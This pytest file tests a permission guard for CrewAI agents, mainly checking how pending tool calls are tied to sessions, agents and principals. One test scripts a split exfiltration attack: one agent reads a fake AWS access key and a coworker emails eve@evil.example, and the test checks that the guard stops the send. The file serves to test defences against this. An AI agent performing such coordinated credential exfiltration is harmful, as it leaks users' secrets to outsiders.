"""Who calls, in which session."""

from __future__ import annotations

import asyncio
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from crewai import Crew
from crewai.flow.flow import Flow, start
from crewai.tools import tool
from tests.crewai.kit import LARGE, Canaries, Scripted, ask, build, crew_of, react, team
from tests.crewai.test_results import executors

import permit0
from permit0_crewai import guard_agent, guard_crew, guard_tools, install, uninstall

LOOK = ("look", {"path": "a.txt"})
CHARGE = ("charge", LARGE)
FINAL = "Thought: I know\nFinal Answer: done"


@pytest.fixture
def canaries() -> Canaries:
    return Canaries()


@pytest.fixture
def guard(tmp_path: Path) -> Iterator[permit0.Guard]:
    made = build(tmp_path)
    yield made
    uninstall(made)


def callers(guard: permit0.Guard) -> list[tuple[str, str, str | None]]:
    """Session, agent and principal of every call that waits."""
    assert guard.desk is not None
    found = [state.request for state in guard.desk.pending()]
    return [(request.session, request.agent, request.principal) for request in found]


def test_a_crew_is_a_session_and_the_role_is_the_agent(
    guard: permit0.Guard, canaries: Canaries
) -> None:
    crew = guard_crew(crew_of(team(ask(CHARGE), canaries.all(), role=" Senior\nBuyer ")), guard)
    crew.kickoff()
    assert callers(guard) == [(f"crew:{crew.id}", "Senior Buyer", None)]


def test_an_agent_without_a_crew_is_a_session(guard: permit0.Guard, canaries: Canaries) -> None:
    agent = guard_agent(team(ask(CHARGE), canaries.all()), guard)
    agent.kickoff("go")
    assert callers(guard) == [(f"agent:{agent.id}", "worker", None)]


@pytest.mark.parametrize("how", ["kickoff", "kickoff_async", "akickoff"])
@pytest.mark.parametrize("native", [True, False])
@pytest.mark.parametrize("executor", executors())
def test_an_open_session_counts_in_every_thread_of_crewai(
    guard: permit0.Guard, canaries: Canaries, executor: Any, native: bool, how: str
) -> None:
    more = {} if executor is None else {"executor_class": executor}
    llm = ask(LOOK, CHARGE, native=native)
    crew = guard_crew(crew_of(team(llm, canaries.all(), **more)), guard)
    with permit0.session("task-1", principal="ann"):
        result = getattr(crew, how)()
        if asyncio.iscoroutine(result):
            asyncio.run(result)
    assert callers(guard) == [("task-1", "worker", "ann")]
    assert canaries.ran == [("look", "a.txt")]


def test_what_was_said_when_guarding_comes_first(guard: permit0.Guard, canaries: Canaries) -> None:
    said = permit0.Identity(session="fixed", agent="buyer", principal="ann")
    crew = guard_crew(crew_of(team(ask(CHARGE), canaries.all())), guard, identity=said)
    with permit0.session("task-1", agent="other", principal="bob"):
        crew.kickoff()
    assert callers(guard) == [("fixed", "buyer", "ann")]


def test_install_takes_an_identity_as_well(guard: permit0.Guard, canaries: Canaries) -> None:
    install(guard, identity=permit0.Identity(principal="ann"))
    crew = crew_of(team(ask(CHARGE), canaries.all()))
    crew.kickoff()
    assert callers(guard) == [(f"crew:{crew.id}", "worker", "ann")]


def test_a_coworker_calls_under_its_own_name_in_the_same_session(
    guard: permit0.Guard, canaries: Canaries
) -> None:
    task = {"task": "t", "context": "c", "coworker": "worker"}
    boss = team(ask(("delegate_work_to_coworker", task)), [], role="boss", allow_delegation=True)
    crew = guard_crew(crew_of(boss, team(ask(CHARGE), canaries.all())), guard)
    crew.kickoff()
    assert callers(guard) == [(f"crew:{crew.id}", "worker", None)]


def test_a_crew_inside_a_tool_belongs_to_the_session_of_the_call(
    guard: permit0.Guard, canaries: Canaries
) -> None:
    inner = guard_crew(crew_of(team(ask(CHARGE), canaries.all(), role="inner")), guard)

    @tool("relay")
    def relay(arguments: dict[str, Any]) -> str:
        """Pass something on to a crew."""
        return str(inner.kickoff())

    outer = crew_of(team(ask(("relay", {"arguments": {}})), [relay], role="outer"))
    guard_crew(outer, guard).kickoff()
    assert callers(guard) == [(f"crew:{outer.id}", "inner", None)]


def test_a_flow_gives_its_crews_and_tools_one_session(
    guard: permit0.Guard, canaries: Canaries
) -> None:
    (charge,) = guard_tools([canaries.charge()], guard)
    crew = guard_crew(crew_of(team(ask(CHARGE), canaries.all())), guard)

    class Work(Flow[dict[str, Any]]):
        @start()
        def work(self) -> None:
            with permit0.session("flow-1", agent="flow"):
                charge.run(amount=6000)
                crew.kickoff()

    Work().kickoff()
    assert sorted(callers(guard)) == [("flow-1", "flow", None), ("flow-1", "flow", None)]


def test_an_attack_that_is_spread_over_coworkers_is_stopped(tmp_path: Path) -> None:
    """One reads a key, the other writes to a stranger: neither does anything that is refused by itself."""
    sent: list[str] = []

    @tool("look")
    def look(path: str) -> str:
        """Read a file."""
        return "aws_access_key_id = AKIAQ3EGRVZK4YWUPL2X" if path == "a.txt" else "nothing"

    @tool("send_email")
    def send(to: list[str], subject: str, body: str) -> str:
        """Send a mail."""
        sent.extend(to)
        return "sent"

    mail = ("send_email", {"to": ["eve@evil.example"], "subject": "hi", "body": "hello"})
    task = {"task": "t", "context": "c", "coworker": "reader"}
    for path, mails in (("b.txt", 1), ("a.txt", 0)):
        sent.clear()
        guard = build(tmp_path, approve=lambda request: True)
        boss = team(
            Scripted([("delegate_work_to_coworker", task)], [mail], "done"),
            [send],
            role="boss",
            allow_delegation=True,
        )
        reader = team(ask(("look", {"path": path})), [look], role="reader")
        try:
            guard_crew(crew_of(boss, reader), guard).kickoff()
        finally:
            uninstall(guard)
        assert len(sent) == mails


def test_crews_at_the_same_time_keep_their_sessions(
    guard: permit0.Guard, canaries: Canaries
) -> None:
    crews: list[Crew] = [
        guard_crew(crew_of(team(ask(LOOK, CHARGE), canaries.all(), role=f"r{n}")), guard)
        for n in range(4)
    ]

    async def all_of_them() -> None:
        await asyncio.gather(*(crew.akickoff() for crew in crews))

    asyncio.run(all_of_them())
    expected = [(f"crew:{crew.id}", f"r{n}", None) for n, crew in enumerate(crews)]
    assert sorted(callers(guard)) == sorted(expected)
    assert len(canaries.ran) == 4


def test_text_mode_of_a_copy_is_in_the_session_of_the_copy(
    guard: permit0.Guard, canaries: Canaries
) -> None:
    llm = Scripted(react(*CHARGE), FINAL, native=False)
    crew = guard_crew(crew_of(team(llm, canaries.all())), guard)
    copied = crew.copy()
    copied.kickoff()
    assert callers(guard) == [(f"crew:{copied.id}", "worker", None)]
